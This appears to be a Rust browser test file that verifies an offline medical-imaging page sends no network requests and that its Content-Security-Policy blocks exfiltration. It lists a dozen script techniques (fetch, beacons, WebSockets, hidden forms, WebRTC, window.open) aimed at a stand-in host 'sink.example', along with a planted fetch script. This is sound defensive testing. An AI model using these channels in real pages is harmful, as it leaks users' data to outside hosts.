//! Nothing leaves: the whole way against a sink that every request would reach, and proof that
//! the sink would have seen one.

use std::path::Path;

use browser_tests::browser::{self, Browser, Kind};
use browser_tests::exam::{Exam, ct_exam};
use browser_tests::sink::Sink;
use browser_tests::tamper::without_policy;
use browser_tests::{page, wait_until};
use serde_json::json;

const EVENT_ID: &str = "1234567";

/// A browser whose requests go to the sink, whichever host they name.
fn behind(sink: &Sink, kind: Kind) -> Browser {
    let browser = Browser::start_behind(kind, sink.proxy());
    // What browsers do when they start is no concern of the page's.
    browser.open("about:blank");
    browser
}

fn kinds() -> impl Iterator<Item = Kind> {
    browser::chosen()
}

/// Ends with a request of the test's own: when it has arrived, everything before it has.
fn fence(browser: &Browser, sink: &Sink, name: &str) -> Vec<String> {
    browser.open(&format!("http://fence.example/{name}"));
    wait_until("the fence", || sink.seen().iter().any(|line| line.contains(name)));
    sink.seen().into_iter().filter(|line| !line.contains("fence.example")).collect()
}

/// Every step of the page, then "Next patient".
fn whole_way(browser: &Browser, exam: &Exam, url: &str) {
    page::open(browser, url);
    page::take_to_verdict(browser, &exam.folder, EVENT_ID);
    let zip = page::save(browser, EVENT_ID);
    page::drop_back(browser, EVENT_ID, &zip);
    page::wait_for_saved(browser, EVENT_ID, "confirmed");
    page::press(browser, "#next-patient");
    page::wait_for_stage(browser, "empty");
    check(browser, &zip);
}

/// The receiving side's half.
fn check(browser: &Browser, zip: &Path) {
    page::press(browser, "#open-check");
    browser.send_files("#check-files", &[zip.to_path_buf()]);
    browser.wait("document.querySelector('#check-verdict[data-verdict]')");
}

#[test]
fn the_whole_way_makes_no_connection() {
    for kind in kinds() {
        for url in [page::file_url(), browser_tests::served_url()] {
            let sink = Sink::start();
            let browser = behind(&sink, kind);
            let exam = ct_exam(&browser.scratch());
            whole_way(&browser, &exam, &url);
            let seen = fence(&browser, &sink, "whole-way");
            assert!(seen.is_empty(), "{kind:?}, {url}: {seen:#?}");
        }
    }
}

/// What a script in the page could try. Each names itself in its path.
const WAYS: &str = "
  const [host, port] = arguments;
  for (const base of [`http://${host}/`, `http://127.0.0.1:${port}/`]) {
    const node = (name, fields, parent = document.body) =>
      parent.append(Object.assign(document.createElement(name), fields));
    const tries = [
      () => fetch(base + 'way-fetch').catch(() => {}),
      () => { const asked = new XMLHttpRequest(); asked.open('GET', base + 'way-xhr'); asked.send(); },
      () => navigator.sendBeacon(base + 'way-beacon', 'x'),
      () => { window.ways = [new EventSource(base + 'way-events')]; },
      () => node('img', { src: base + 'way-image' }),
      () => node('script', { src: base + 'way-script' }),
      () => node('link', { rel: 'stylesheet', href: base + 'way-style' }, document.head),
      () => node('iframe', { src: base + 'way-frame' }),
      () => node('video', { src: base + 'way-video', preload: 'auto' }),
      () => node('object', { data: base + 'way-object' }),
      () => { new FontFace('way', `url(${base}way-font)`).load().catch(() => {}); },
      () => { window.socket = new WebSocket(base.replace('http', 'ws') + 'way-socket'); },
      () => {
        node('iframe', { name: 'way' });
        const form = Object.assign(document.createElement('form'), { action: base + 'way-form', target: 'way' });
        document.body.append(form);
        form.submit();
      },
    ];
    for (const one of tries) { try { one(); } catch { /* the next */ } }
  }";

/// The ways that the sink must see where nothing stops them.
const SEEN: [&str; 8] = [
    "way-fetch",
    "way-xhr",
    "way-beacon",
    "way-events",
    "way-image",
    "way-script",
    "way-style",
    "way-frame",
];

fn try_ways(browser: &Browser, sink: &Sink) {
    browser.run(WAYS, json!(["sink.example", sink.port()]));
}

#[test]
fn the_policy_stops_whatever_a_script_in_the_page_would_send() {
    for kind in kinds() {
        for url in [page::file_url(), browser_tests::served_url()] {
            let sink = Sink::start();
            let browser = behind(&sink, kind);
            page::open(&browser, &url);
            try_ways(&browser, &sink);
            let seen = fence(&browser, &sink, "ways");
            assert!(seen.is_empty(), "{kind:?}, {url}: {seen:#?}");
        }
    }
}

#[test]
fn without_the_policy_the_sink_sees_each_of_them() {
    for kind in kinds() {
        let sink = Sink::start();
        let browser = behind(&sink, kind);
        let bare = browser.scratch().join("without-policy.html");
        std::fs::write(&bare, without_policy("", "")).unwrap();
        page::open(&browser, &format!("file://{}", bare.display()));
        try_ways(&browser, &sink);
        // Firefox puts off what it need not show.
        let seen = if kind == Kind::Firefox { &SEEN[..4] } else { &SEEN[..] };
        for way in seen {
            for host in ["sink.example", "GET /", "POST /"] {
                let is_there =
                    || sink.seen().iter().any(|line| line.contains(way) && line.contains(host));
                // A beacon is posted, all others are got.
                if host.starts_with("http") || (host == "POST /") == (*way == "way-beacon") {
                    wait_until(&format!("{kind:?}: {way} {host}"), is_there);
                }
            }
        }
    }
}

#[test]
fn one_request_in_the_page_without_its_policy_is_seen() {
    for kind in kinds() {
        let sink = Sink::start();
        let browser = behind(&sink, kind);
        let bare = browser.scratch().join("with-request.html");
        let request = "<script>fetch('http://sink.example/planted').catch(() => {})</script>";
        std::fs::write(&bare, without_policy("", request)).unwrap();
        let exam = ct_exam(&browser.scratch());
        whole_way(&browser, &exam, &format!("file://{}", bare.display()));
        let seen = fence(&browser, &sink, "planted-fence");
        assert!(seen.iter().any(|line| line.contains("sink.example/planted")), "{seen:?}");
    }
}

/// WebRTC and navigation, which no Content-Security-Policy stops.
const UNSTOPPED: &str = "
  const [port] = arguments;
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  peer.createDataChannel('way');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  window.peer = peer;
  window.open(`http://127.0.0.1:${port}/way-window`);";

#[test]
fn the_connection_allowlist_stops_webrtc_and_navigation_in_chromium() {
    if !kinds().any(|kind| kind == Kind::Chromium) {
        return;
    }
    let sink = Sink::start();
    let browser = behind(&sink, Kind::Chromium);
    page::open(&browser, &page::file_url());
    browser.run(UNSTOPPED, json!([sink.port()]));
    for way in ["UDP", "way-window"] {
        wait_until(way, || sink.seen().iter().any(|line| line.contains(way)));
    }
    let sink = Sink::start();
    let browser = behind(&sink, Kind::Chromium);
    page::open(&browser, &browser_tests::served_url());
    browser.run(UNSTOPPED, json!([sink.port()]));
    // The gathering of ways to reach a peer has come to its end.
    browser.wait("window.peer.iceGatheringState === 'complete'");
    let seen = fence(&browser, &sink, "allowlist");
    assert!(seen.is_empty(), "{seen:#?}");
}
